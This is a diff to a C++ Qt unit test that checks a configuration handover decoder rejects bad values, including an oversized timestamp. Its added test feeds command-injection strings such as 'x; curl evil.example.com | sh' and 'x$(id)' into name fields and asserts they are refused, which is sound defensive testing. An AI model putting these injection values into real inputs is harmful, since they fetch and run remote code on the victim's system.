@@ -182,6 +182,7 @@ private Q_SLOTS:
         row("place.port", "65536");
         row("place.port", {});
         row("created", "yesterday");
+        row("created", "9223372036854775807");
         row("answer.gitlabHost", "http://gitlab.example.com/");
     }
     void whatIsNotFromThisProgramIsRefused()
@@ -191,6 +192,24 @@ private Q_SLOTS:
         const auto read = decode(with(test::handoverSample(), name, value));
         QVERIFY(!read);
         QCOMPARE(read.error(), Refusal::NotUnderstood);
+    }
+
+    /// It stands in the commands that the other one is asked to run.
+    void aNameThatIsACommandIsRefused()
+    {
+        for (const char *name : {"x; curl evil.example.com | sh", "x$(id)", "-rm", "a b", "x\ny"}) {
+            Handover sample = test::handoverSample();
+            sample.draft.place.name = QString::fromLatin1(name);
+            QVERIFY2(!decode(encode(sample)), name);
+            sample = test::handoverSample();
+            sample.draft.place.beside = clientconfig::RunningClient{
+                QString::fromLatin1(name), 8000, QString(sample.draft.type.key)};
+            QVERIFY2(!decode(encode(sample)), name);
+        }
+        Handover sample = test::handoverSample();
+        sample.draft.place.base = QStringLiteral("x; curl evil.example.com | sh");
+        const auto read = decode(encode(sample));
+        QVERIFY(!read || !clientconfig::outlineOf(Carrier::DockerShell, read->draft).name.contains(u';'));
     }
 
     void tornContentIsRefused()
